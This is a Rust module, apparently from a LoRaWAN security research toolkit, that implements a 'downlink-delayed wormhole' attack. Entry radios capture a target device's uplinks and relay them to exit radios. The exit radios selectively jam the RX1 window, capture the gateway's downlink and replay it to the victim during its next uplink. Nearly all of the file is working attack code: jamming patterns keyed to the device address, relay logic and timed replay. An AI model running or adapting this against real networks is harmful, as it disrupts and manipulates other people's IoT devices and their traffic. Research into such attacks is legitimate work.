//! Downlink-delayed wormhole: used when uplink+downlink airtime plus
//! processing exceeds the RX2 deadline. A captured downlink is held back
//! and replayed during RX1 of the device's *next* uplink instead.

use std::sync::atomic::AtomicU8;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::sync::mpsc;

use super::dedup::DedupWindow;
use super::node::{self, set_state, NodeEvent, NodeHandle, NodeState};
use super::Hooks;
use crate::config::{ChannelConfig, ChannelConfigUpdate};
use crate::modem::facade::{ModemFacade, SnifferAction};

pub enum DelayedEvent {
    /// Carries the uplink frame whose RX1 window this exit node should jam
    /// and then listen through for the matching downlink.
    AwaitDownlink(Vec<u8>),
}

struct PendingDownlink {
    payload: Vec<u8>,
}

pub struct DownlinkDelayedWormhole {
    entry_modems: Vec<Arc<ModemFacade>>,
    exit_modems: Vec<Arc<ModemFacade>>,
    channel: ChannelConfig,
    rx1_delay: Duration,
    dev_addr: [u8; 4],
    hooks: Hooks,
    entry_nodes: Vec<NodeHandle<DelayedEvent>>,
    exit_nodes: Vec<NodeHandle<DelayedEvent>>,
}

impl DownlinkDelayedWormhole {
    pub fn new(
        entry_modems: Vec<Arc<ModemFacade>>,
        exit_modems: Vec<Arc<ModemFacade>>,
        channel: ChannelConfig,
        rx1_delay: Duration,
        dev_addr: [u8; 4],
    ) -> Self {
        DownlinkDelayedWormhole {
            entry_modems,
            exit_modems,
            channel,
            rx1_delay,
            dev_addr,
            hooks: Hooks::new(),
            entry_nodes: Vec::new(),
            exit_nodes: Vec::new(),
        }
    }

    pub fn hooks(&self) -> &Hooks {
        &self.hooks
    }

    pub fn is_up(&self) -> bool {
        !self.entry_nodes.is_empty() || !self.exit_nodes.is_empty()
    }

    /// Applies a channel change to the stored configuration. If the
    /// wormhole is currently running, it is brought down and back up so
    /// both entry and exit radios pick up the new settings.
    pub async fn set_lora_channel(&mut self, changes: ChannelConfigUpdate) {
        changes.apply(&mut self.channel);
        if self.is_up() {
            self.down().await;
            self.up().await;
        }
    }

    pub async fn up(&mut self) {
        let dedup = Arc::new(DedupWindow::new());
        let pending_dl = Arc::new(Mutex::new(None::<PendingDownlink>));
        let last_fcnt_up = Arc::new(Mutex::new(None::<u16>));

        let mut exit_txs = Vec::new();
        let mut exit_rxs = Vec::new();
        for _ in &self.exit_modems {
            let (tx, rx) = mpsc::channel(32);
            exit_txs.push(tx);
            exit_rxs.push(rx);
        }

        for (i, modem) in self.exit_modems.iter().cloned().enumerate() {
            let name = format!("exit-{i}");
            let state = Arc::new(AtomicU8::new(NodeState::Starting as u8));
            let rx = exit_rxs.remove(0);
            let channel = self.channel;
            let dev_addr = self.dev_addr;
            let pending_dl = pending_dl.clone();
            let rx1_delay = self.rx1_delay;
            let task_state = state.clone();
            let task = tokio::spawn(exit_loop(modem, channel, dev_addr, pending_dl, rx1_delay, rx, task_state));
            self.exit_nodes.push(NodeHandle::from_parts(name, exit_txs[i].clone(), state, task));
        }

        for (i, modem) in self.entry_modems.iter().cloned().enumerate() {
            let name = format!("entry-{i}");
            let (tx, rx) = mpsc::channel(32);
            let state = Arc::new(AtomicU8::new(NodeState::Starting as u8));
            let channel = self.channel;
            let dev_addr = self.dev_addr;
            let dedup = dedup.clone();
            let hooks = self.hooks.clone();
            let exit_txs = exit_txs.clone();
            let pending_dl = pending_dl.clone();
            let last_fcnt_up = last_fcnt_up.clone();
            let rx1_delay = self.rx1_delay;
            let task_state = state.clone();
            let task = tokio::spawn(entry_loop(
                modem, channel, dev_addr, dedup, hooks, exit_txs, pending_dl, last_fcnt_up, rx1_delay, rx,
                task_state,
            ));
            self.entry_nodes.push(NodeHandle::from_parts(name, tx, state, task));
        }
    }

    pub async fn down(&mut self) {
        for node in self.entry_nodes.drain(..) {
            node.stop_and_join(Duration::from_secs(20)).await;
        }
        for node in self.exit_nodes.drain(..) {
            node.stop_and_join(Duration::from_secs(20)).await;
        }
    }
}

#[allow(clippy::too_many_arguments)]
async fn entry_loop(
    modem: Arc<ModemFacade>,
    channel: ChannelConfig,
    dev_addr: [u8; 4],
    dedup: Arc<DedupWindow>,
    hooks: Hooks,
    exit_txs: Vec<mpsc::Sender<NodeEvent<DelayedEvent>>>,
    pending_dl: Arc<Mutex<Option<PendingDownlink>>>,
    last_fcnt_up: Arc<Mutex<Option<u16>>>,
    rx1_delay: Duration,
    mut rx: mpsc::Receiver<NodeEvent<DelayedEvent>>,
    state: Arc<AtomicU8>,
) {
    if node::apply_channel(&modem, &channel, !channel.invertiqrx).await.is_err() {
        set_state(&state, NodeState::Stopped);
        return;
    }
    if modem.receive().await.is_err() {
        set_state(&state, NodeState::Stopped);
        return;
    }
    set_state(&state, NodeState::Running);

    loop {
        match tokio::time::timeout(Duration::from_millis(50), rx.recv()).await {
            Ok(Some(NodeEvent::Stop)) | Ok(None) => break,
            Ok(Some(_)) => {}
            Err(_) => {}
        }

        match modem.fetch_frame().await {
            Ok(Some(frame)) => {
                if frame.payload.len() < 5 || frame.payload[1..5] != dev_addr {
                    continue;
                }
                if !is_data_up(frame.payload[0]) {
                    continue;
                }
                if dedup.is_duplicate(&frame.payload) || !hooks.passes_filters(&frame.payload) {
                    continue;
                }

                let fcnt = u16::from_le_bytes([frame.payload[6], frame.payload[7]]);
                let is_new = *last_fcnt_up.lock().unwrap() != Some(fcnt);
                if is_new {
                    let saved = pending_dl.lock().unwrap().take();
                    if let Some(saved) = saved {
                        // Replayed near the victim, on this entry node's own
                        // radio, timed off the uplink that just triggered it.
                        let at_us = frame.time_rxdone + rx1_delay.as_micros() as u64;
                        if let Err(e) = modem.transmit_frame(&saved.payload, Some(at_us), false).await {
                            tracing::warn!(error = %e, "downlink-delayed replay failed");
                        }
                    }
                    *last_fcnt_up.lock().unwrap() = Some(fcnt);
                }

                for tx in &exit_txs {
                    let _ = tx.send(NodeEvent::Strategy(DelayedEvent::AwaitDownlink(frame.payload.clone()))).await;
                }
                hooks.notify_uplink(&frame.payload);
            }
            Ok(None) => {}
            Err(e) => tracing::warn!(error = %e, "downlink-delayed entry node fetch_frame failed"),
        }
    }

    let _ = modem.standby().await;
    set_state(&state, NodeState::Stopped);
}

fn is_data_up(mhdr_byte: u8) -> bool {
    matches!(mhdr_byte >> 5, 0b010 | 0b100)
}

#[allow(clippy::too_many_arguments)]
async fn exit_loop(
    modem: Arc<ModemFacade>,
    channel: ChannelConfig,
    dev_addr: [u8; 4],
    pending_dl: Arc<Mutex<Option<PendingDownlink>>>,
    rx1_delay: Duration,
    mut rx: mpsc::Receiver<NodeEvent<DelayedEvent>>,
    state: Arc<AtomicU8>,
) {
    if node::apply_channel(&modem, &channel, true).await.is_err() {
        set_state(&state, NodeState::Stopped);
        return;
    }
    let _ = modem.set_txcrc(true).await;
    let plen = jammer_payload_length_delayed(channel.spreadingfactor);
    let _ = modem.set_jammer_payload_length(plen).await;
    update_jammer(&modem, &dev_addr).await;
    let _ = modem.standby().await;
    set_state(&state, NodeState::Running);

    loop {
        match rx.recv().await {
            Some(NodeEvent::Stop) | None => break,
            Some(NodeEvent::Strategy(DelayedEvent::AwaitDownlink(payload))) => {
                // FIXME: a short grace period before the standby/transmit
                // cycle avoids a race with the firmware still finishing the
                // jam it was mid-way through; see tools/wormhole.py.
                tokio::time::sleep(Duration::from_millis(500)).await;
                let _ = modem.standby().await;
                if let Err(e) = modem.transmit_frame(&payload, None, true).await {
                    tracing::warn!(error = %e, "downlink-delayed exit node transmit failed");
                }
                if node::apply_channel(&modem, &channel, true).await.is_ok() {
                    let _ = modem.receive().await;
                    await_downlink(&modem, &dev_addr, &pending_dl, rx1_delay).await;
                }
                update_jammer(&modem, &dev_addr).await;
            }
            Some(NodeEvent::Transmit(_)) => {}
        }
    }

    let _ = modem.standby().await;
    set_state(&state, NodeState::Stopped);
}

async fn await_downlink(
    modem: &ModemFacade,
    dev_addr: &[u8; 4],
    pending_dl: &Arc<Mutex<Option<PendingDownlink>>>,
    rx1_delay: Duration,
) {
    let deadline = rx1_delay + Duration::from_secs(1);
    let started = tokio::time::Instant::now();
    while started.elapsed() < deadline {
        match modem.fetch_frame().await {
            Ok(Some(frame)) => {
                if frame.payload.len() >= 5 && frame.payload[1..5] == *dev_addr {
                    *pending_dl.lock().unwrap() = Some(PendingDownlink { payload: frame.payload });
                    return;
                }
            }
            Ok(None) => tokio::time::sleep(Duration::from_millis(20)).await,
            Err(e) => {
                tracing::warn!(error = %e, "downlink-delayed exit node fetch_frame failed");
                break;
            }
        }
    }
}

pub fn jammer_payload_length_delayed(spreadingfactor: u8) -> u8 {
    20i32.saturating_sub(spreadingfactor as i32).clamp(1, 255) as u8
}

async fn update_jammer(modem: &ModemFacade, dev_addr: &[u8; 4]) {
    let mut pattern = vec![0x00];
    pattern.extend_from_slice(dev_addr);
    let mask = [0x00, 0xFF, 0xFF, 0xFF, 0xFF];
    if let Err(e) = modem.enable_sniffer(false, &mask, &pattern, SnifferAction::Internal, None).await {
        tracing::warn!(error = %e, "failed to arm downlink-delayed jammer");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn jammer_length_jams_both_directions() {
        assert_eq!(jammer_payload_length_delayed(7), 13);
        assert_eq!(jammer_payload_length_delayed(12), 8);
    }

    #[test]
    fn recognizes_data_up_mtypes() {
        assert!(is_data_up(0x40)); // unconfirmed data up
        assert!(is_data_up(0x80)); // confirmed data up
        assert!(!is_data_up(0xA0)); // unconfirmed data down
        assert!(!is_data_up(0x00)); // join request
    }
}
